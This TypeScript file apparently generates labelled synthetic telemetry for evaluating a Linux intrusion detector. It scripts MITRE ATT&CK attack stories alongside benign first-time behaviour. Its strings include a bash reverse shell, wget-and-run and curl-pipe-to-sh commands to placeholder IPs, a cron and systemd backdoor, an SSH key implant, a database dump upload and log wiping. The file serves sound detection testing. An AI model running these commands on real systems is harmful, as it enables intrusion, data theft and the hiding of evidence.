import { HOUR, Host } from './world';

// Attack stories, each from the public description of a MITRE ATT&CK technique for Linux
// (attack.mitre.org), and benign first-time behaviour that must not be called an attack.
// Only rows the attacker's actions produce are labelled anomalous.

export interface Story {
  id: string;
  title: string;
  host: string;
  /** which test day (0 = first labelled day) and hour */
  day: number;
  /** `r`: the set's random stream, for stories that run a routine (a new hire's working day) */
  play(h: Host, t: number, r: () => number): void;
}

/** what the per-story report needs of a story or of a novelty that is no one story (a holiday) */
export type StoryInfo = Pick<Story, 'id' | 'title' | 'host'>;

export const ATTACKS: Story[] = [
  {
    id: 'reverse-shell',
    title: 'reverse shell from the web service account (T1059.004 via a web shell, T1505.003)',
    host: 'edge-web',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      // the exploited worker itself is the site's usual process: not labelled
      const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
      const sh = h.exec(t + 1, 'www-data', '/bin/sh', 'sh -c bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', fpm, {
        cwd: '/var/www/shop/uploads',
        ...s,
      });
      const bash = h.exec(t + 1, 'www-data', '/bin/bash', 'bash -i', sh, { cwd: '/var/www/shop/uploads', ...s });
      h.connect(t + 2, bash, '/bin/bash', h.account('www-data').uid, '198.51.100.77', 4444, s);
      h.exec(t + 20, 'www-data', '/usr/bin/id', 'id', bash, { cwd: '/var/www/shop/uploads', ...s });
      h.exec(t + 25, 'www-data', '/usr/bin/uname', 'uname -a', bash, { cwd: '/var/www/shop/uploads', ...s });
      h.exec(t + 40, 'www-data', '/usr/bin/cat', 'cat /etc/passwd', bash, { cwd: '/var/www/shop/uploads', ...s });
    },
  },
  {
    id: 'ingress-tool',
    title: 'ingress tool transfer (T1105): a binary fetched to /tmp and run',
    host: 'edge-web',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      const parent = h.exec(t, 'www-data', '/bin/bash', 'bash -i', '950', { cwd: '/tmp', ...s });
      const wget = h.exec(t + 60, 'www-data', '/usr/bin/wget', 'wget -q http://203.0.113.50/k -O /tmp/.k', parent, { cwd: '/tmp', ...s });
      h.connect(t + 61, wget, '/usr/bin/wget', h.account('www-data').uid, '203.0.113.50', 80, s);
      h.exec(t + 70, 'www-data', '/usr/bin/chmod', 'chmod +x /tmp/.k', parent, { cwd: '/tmp', ...s });
      const k = h.exec(t + 75, 'www-data', '/tmp/.k', '/tmp/.k -s', parent, { cwd: '/tmp', ...s });
      h.connect(t + 76, k, '/tmp/.k', h.account('www-data').uid, '203.0.113.50', 8443, s);
    },
  },
  {
    id: 'create-account',
    title: 'create account (T1136.001) and use it at night from outside',
    host: 'pg-main',
    day: 0,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.session(t, 'root', s);
      h.exec(t + 10, 'root', '/usr/sbin/useradd', 'useradd -m -s /bin/bash -G sudo pgsync', sh, s);
      h.exec(t + 20, 'root', '/usr/bin/passwd', 'passwd pgsync', sh, s);
      h.file(t + 20, '/etc/passwd', 'UPDATED', s);
      h.file(t + 21, '/etc/shadow', 'UPDATED', s);
      h.accounts.push({ name: 'pgsync', uid: '1007', home: '/home/pgsync' });
      const t2 = t + 3 * HOUR;
      h.login(t2, 'pgsync', '192.0.2.144', s);
      const bash = h.session(t2, 'pgsync', s);
      h.exec(t2 + 30, 'pgsync', '/usr/bin/sudo', 'sudo -l', bash, { euid: '0', ...s });
      h.exec(t2 + 60, 'pgsync', '/usr/bin/id', 'id', bash, s);
    },
  },
  {
    id: 'cron-persistence',
    title: 'scheduled task persistence (T1053.003): a cron.d entry that fetches and runs a script',
    host: 'ci-runner-3',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.session(t, 'root', s);
      h.exec(t + 5, 'root', '/usr/bin/tee', 'tee /etc/cron.d/php-sess-clean', sh, s);
      h.file(t + 5, '/etc/cron.d/php-sess-clean', 'CREATED', s);
      for (const k of [1, 2]) {
        const tt = t + k * 300;
        const cron = h.exec(tt, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', '1');
        const c = h.exec(tt + 1, 'root', '/bin/sh', '/bin/sh -c curl -fsSL http://198.51.100.23/u.sh | sh', cron, s);
        const curl = h.exec(tt + 1, 'root', '/usr/bin/curl', 'curl -fsSL http://198.51.100.23/u.sh', c, s);
        h.connect(tt + 2, curl, '/usr/bin/curl', '0', '198.51.100.23', 80, s);
        h.exec(tt + 2, 'root', '/bin/sh', 'sh', c, s);
      }
    },
  },
  {
    id: 'systemd-persistence',
    title: 'systemd service persistence (T1543.002): a unit that starts a hidden listener',
    host: 'ci-runner-3',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.session(t, 'root', s);
      h.file(t + 5, '/etc/systemd/system/dbus-broker-helper.service', 'CREATED', s);
      h.exec(t + 6, 'root', '/usr/bin/systemctl', 'systemctl enable --now dbus-broker-helper', sh, s);
      const svc = h.exec(t + 7, null, '/usr/lib/.dbus/broker-helper', '/usr/lib/.dbus/broker-helper --port 31337', '1', s);
      h.listen(t + 8, svc, 31337, '0.0.0.0', s);
    },
  },
  {
    id: 'authorized-keys',
    title: 'SSH authorized keys (T1098.004): a key added for the DBA, then used from outside',
    host: 'pg-main',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.exec(t, 'backup', '/bin/bash', 'bash -i', '1', { cwd: '/var/backups', ...s });
      h.exec(t + 5, 'backup', '/bin/sh', 'sh -c echo ssh-ed25519 AAAAC3Nza... >> /home/omar/.ssh/authorized_keys', sh, { uid: '0', euid: '0', ...s });
      h.file(t + 5, '/home/omar/.ssh/authorized_keys', 'UPDATED', s);
      h.login(t + 2 * HOUR, 'omar', '192.0.2.201', s);
      const bash = h.session(t + 2 * HOUR, 'omar', s);
      h.exec(t + 2 * HOUR + 30, 'omar', '/usr/bin/cat', 'cat /var/lib/postgresql/.pgpass', bash, s);
    },
  },
  {
    id: 'exfiltration',
    title: 'exfiltration over a web service (T1048 / T1567): the sparse backup account uploads a dump',
    host: 'pg-main',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.exec(t, 'backup', '/bin/bash', 'bash -i', '1', { cwd: '/var/backups', ...s });
      h.exec(t + 10, 'backup', '/usr/bin/pg_dumpall', 'pg_dumpall -U postgres -f /dev/shm/d.sql', sh, { cwd: '/var/backups', ...s });
      h.exec(t + 70, 'backup', '/usr/bin/gzip', 'gzip -9 /dev/shm/d.sql', sh, { cwd: '/var/backups', ...s });
      const curl = h.exec(t + 90, 'backup', '/usr/bin/curl', 'curl -s -T /dev/shm/d.sql.gz https://transfer.example.net/d.sql.gz', sh, {
        cwd: '/var/backups',
        ...s,
      });
      h.connect(t + 91, curl, '/usr/bin/curl', h.account('backup').uid, '203.0.113.88', 443, s);
    },
  },
  {
    id: 'indicator-removal',
    title: 'indicator removal (T1070.002/.003): logs and shell history wiped',
    host: 'edge-web',
    day: 1,
    play(h, t) {
      const s = { story: this.id };
      const sh = h.session(t, 'root', s);
      h.exec(t + 5, 'root', '/usr/bin/truncate', 'truncate -s 0 /var/log/auth.log', sh, s);
      h.file(t + 5, '/var/log/auth.log', 'UPDATED', s);
      h.exec(t + 6, 'root', '/usr/bin/rm', 'rm -f /var/log/wtmp /var/log/btmp', sh, s);
      h.file(t + 6, '/var/log/wtmp', 'DELETED', s);
      h.exec(t + 7, 'root', '/usr/bin/shred', 'shred -u /root/.bash_history', sh, s);
    },
  },
];

/** first-time behaviour that is normal: labelled normal, and a fair test of false alarms */
export const NOVELTIES: Story[] = [
  {
    id: 'first-compose-up',
    title: "the developer's first `docker compose up`",
    host: 'ci-runner-3',
    day: 0,
    play(h, t) {
      const n = { novelty: this.id };
      const shell = h.session(t, 'dana', n);
      const dc = h.exec(t + 5, 'dana', '/usr/bin/docker', 'docker compose up -d', shell, { cwd: '/home/dana/src/runner', ...n });
      h.connect(t + 6, dc, '/usr/bin/docker', h.account('dana').uid, '104.18.121.25', 443, n);
      h.history(t + 5, 'dana', 'docker compose up -d', n);
    },
  },
  {
    id: 'first-internal-db',
    title: "the DBA's first connection to the application database host",
    host: 'pg-main',
    day: 0,
    play(h, t) {
      const n = { novelty: this.id };
      const shell = h.session(t, 'omar', n);
      const psql = h.exec(t + 5, 'omar', '/usr/bin/psql', 'psql -h 10.40.2.7 -U app appdb', shell, n);
      h.connect(t + 6, psql, '/usr/bin/psql', h.account('omar').uid, '10.40.2.7', 5432, n);
      h.history(t + 5, 'omar', 'psql -h 10.40.2.7 -U app appdb', n);
    },
  },
  {
    id: 'new-system-tool',
    title: 'the operator installs and runs htop',
    host: 'edge-web',
    day: 1,
    play(h, t) {
      const n = { novelty: this.id };
      const shell = h.session(t, 'ops', n);
      const sudo = h.exec(t + 2, 'ops', '/usr/bin/sudo', 'sudo apt-get install -y htop', shell, { euid: '0', ...n });
      h.exec(t + 3, 'ops', '/usr/bin/apt-get', 'apt-get install -y htop', sudo, { uid: '0', euid: '0', ...n });
      h.exec(t + 60, 'ops', '/usr/bin/htop', 'htop', shell, n);
      h.history(t + 60, 'ops', 'htop', n);
    },
  },
];
